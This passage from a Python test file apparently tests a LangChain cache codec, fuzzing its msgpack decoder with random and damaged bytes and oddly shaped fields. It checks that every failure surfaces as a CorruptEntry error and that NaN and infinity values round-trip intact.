    wire = stored_chat()
    wire["message"]["additional_kwargs"] = {"x": [msgspec.msgpack.Ext(5, b"x")]}
    with pytest.raises(CorruptEntry):
        CODEC.decode(entry_of([wire]))


@given(st.binary(max_size=200))
def test_random_bytes_raise_nothing_but_corrupt_entry(payload):
    decode_or_corrupt(EncodedAnswer(kind="langchain", payload=payload))


@given(st.data())
def test_damaged_entries_raise_nothing_but_corrupt_entry(data):
    payload = bytearray(
        CODEC.encode([chat(["Hi", {"text": "Ho"}], **EVERYTHING), Generation(text="x")]).payload
    )
    for _ in range(data.draw(st.integers(1, 4))):
        payload[data.draw(st.integers(0, len(payload) - 1))] = data.draw(st.integers(0, 255))
    end = data.draw(st.integers(len(payload) // 2, len(payload)))
    decode_or_corrupt(EncodedAnswer(kind="langchain", payload=bytes(payload[:end])))


@given(
    kind=st.sampled_from(["chat", "text"]),
    fields=st.dictionaries(st.sampled_from([*stored_chat()["message"], "text", "type"]), plain),
    info=plain,
)
def test_entries_with_fields_of_any_shape_raise_nothing_but_corrupt_entry(kind, fields, info):
    wire = stored_chat()
    message = {**wire["message"], **fields}
    body = {"message": message} if kind == "chat" else {"text": fields.get("text", "Hi")}
    decode_or_corrupt(entry_of([{"type": kind, "generation_info": info, **body}]))


def decode_or_corrupt(encoded: EncodedAnswer) -> None:
    try:
        returned = CODEC.decode(encoded)
    except CorruptEntry:
        return
    assert all(type(generation) in (Generation, ChatGeneration) for generation in returned)


def test_numbers_that_are_not_equal_to_themselves_come_back():
    (returned,) = again(chat(response_metadata={"logprob": math.nan, "other": -math.inf}))
    assert math.isnan(returned.message.response_metadata["logprob"])
    assert returned.message.response_metadata["other"] == -math.inf


def test_it_is_the_codec_that_the_cache_asks_for():
    assert isinstance(CODEC, AnswerCodec)
    assert CODEC.kind == "langchain"
